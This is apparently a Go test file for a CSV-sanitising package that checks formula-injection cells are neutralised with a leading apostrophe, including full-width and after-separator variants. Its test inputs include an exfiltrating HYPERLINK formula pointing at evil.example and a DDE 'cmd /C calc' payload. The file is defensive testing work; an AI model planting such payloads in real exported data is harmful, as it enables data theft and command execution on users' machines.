package csvsafe

import (
	"encoding/csv"
	"strings"
	"testing"
)

// checkCells checks Cell on every input of cases against its output.
func checkCells(t *testing.T, cases map[string]string) {
	t.Helper()
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCell(t *testing.T) {
	checkCells(t, map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
		"-2+3":                                             "'-2+3",
		"@SUM(A1:A2)":                                      "'@SUM(A1:A2)",
		"\t=1":                                             "'\t'=1",
		"\r=1":                                             "'\r'=1",
		"-":                                                "'-",
		"-.5":                                              "'-.5",
		"-1.":                                              "'-1.",
		"-1e5":                                             "'-1e5",
		"- 1":                                              "'- 1",
		"-1.5":                                             "-1.5",
		"+3":                                               "+3",
		"-0":                                               "-0",
		"12.25":                                            "12.25",
		"":                                                 "",
		"plain text = fine":                                "plain text = fine",
		"'=already quoted":                                 "'=already quoted",
		"＝HYPERLINK(\"http://evil.example\",\"fw\")": "'＝HYPERLINK(\"http://evil.example\",\"fw\")",
		"＋1＋2":    "'＋1＋2",
		"－1":      "'－1",
		"＠SUM(1)": "'＠SUM(1)",
		"﹦1+1":    "'﹦1+1",
		"a＝b":     "a＝b",
	})
}

func TestWriter(t *testing.T) {
	rec := []string{"id", "=1+1", "-1.5", "@x", "ok"}
	var safe, raw strings.Builder
	w := NewWriter(&safe)
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Fatal("Write changed its argument")
	}
	got, err := csv.NewReader(strings.NewReader(safe.String())).Read()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"id", "'=1+1", "-1.5", "'@x", "ok"}; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("neutralised: %q, want %q", got, want)
	}
	rw := New(&raw, true)
	rw.Comma = '\t'
	rw.Write(rec)
	rw.Flush()
	if raw.String() != "id\t=1+1\t-1.5\t@x\tok\n" {
		t.Errorf("raw: %q", raw.String())
	}
}

// attack is a formula hidden after a separator that encoding/csv does not
// quote on its own.
const attack = `x;=HYPERLINK("http://evil.example/?x="&A1,"click")`

func TestCellAfterSeparator(t *testing.T) {
	checkCells(t, map[string]string{
		attack:               `x;'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		",=1+12":             ",'=1+12",
		"Ada,=1+12":          "Ada,'=1+12",
		"a;  @SUM(A1)":       "a;  '@SUM(A1)",
		"a\t+cmd|' /C calc'": "a\t'+cmd|' /C calc'",
		"a\n-2+3":            "a\n'-2+3",
		"a;＝1":               "a;'＝1",
		"=1;=2":              "'=1;'=2",
		"1,-2":               "1,-2",
		"a, -1.5;b":          "a, -1.5;b",
		"a; b = c":           "a; b = c",
		"a;":                 "a;",
		"a, ":                "a, ",
	})
}

// TestSplitOnAnotherSeparator mounts the attack: the file is opened by a
// spreadsheet that splits each line on a separator other than the file's,
// ignoring quotes that no longer start a cell. No part of any line may
// then begin as a formula (after spaces, inside double quotes).
func TestSplitOnAnotherSeparator(t *testing.T) {
	recs := [][]string{
		{"id", "a;b", attack, "ok"},
		{"2", "Ada,=1+12", "-1.5", "x\t=2+2"},
		{"3", "a, ;@x", "'safe", "z"},
	}
	for _, comma := range []rune{',', '\t', ';'} {
		var out strings.Builder
		w := NewWriter(&out)
		w.Comma = comma
		if err := w.WriteAll(recs); err != nil {
			t.Fatal(err)
		}
		// The file still reads back as written, cell for cell.
		r := csv.NewReader(strings.NewReader(out.String()))
		r.Comma = comma
		back, err := r.ReadAll()
		if err != nil || len(back) != len(recs) {
			t.Fatalf("comma %q: read back %q, %v", comma, back, err)
		}
		for i, rec := range recs {
			for j, c := range rec {
				if back[i][j] != Cell(c) {
					t.Errorf("comma %q: cell %q read back as %q", comma, c, back[i][j])
				}
			}
		}
		if !strings.HasPrefix(out.String(), `"id"`+string(comma)+`"a;b"`) {
			t.Errorf("comma %q: a record with a formula after a separator is not fully quoted:\n%s", comma, out.String())
		}
		for _, line := range strings.Split(out.String(), "\n") {
			for _, part := range strings.FieldsFunc(line, func(r rune) bool { return r == ',' || r == ';' || r == '\t' || r == '\r' }) {
				part = strings.Trim(strings.TrimLeft(part, " "), `"`)
				if riskyStart(part) {
					t.Errorf("comma %q: line %q splits into %q, a formula", comma, line, part)
				}
			}
		}
	}
}
